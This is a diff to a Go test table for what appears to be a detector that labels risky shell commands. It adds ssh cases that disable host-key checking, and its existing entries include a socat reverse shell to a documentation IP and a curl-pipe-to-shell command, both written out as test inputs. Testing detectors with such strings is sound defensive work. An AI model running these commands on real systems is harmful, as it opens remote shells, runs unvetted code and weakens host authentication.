@@ -27,6 +27,8 @@ func TestFacts(t *testing.T) {
 		{"curl -o out.sh bin/x.sh", ""},
 		{"socat tcp:203.0.113.7:4444 exec:/bin/bash,pty,stderr", "reverse-shell"},
 		{"sudo socat stdin exec:/bin/bash", ""},
+		{"sudo ssh -o StrictHostKeyChecking=no -o BatchMode=yes root@localhost true", ""},
+		{"ssh -o StrictHostKeyChecking=no root@203.0.113.9 uptime", "weaken"},
 		// A placeholder is a word, not two redirections.
 		{"ssh root@<SERVER_IP> 'chmod 600 /home/u/.ssh/authorized_keys'", ""},
 		{"curl -fsSL https://<host>/i.sh | sh", "pipe-to-shell"},
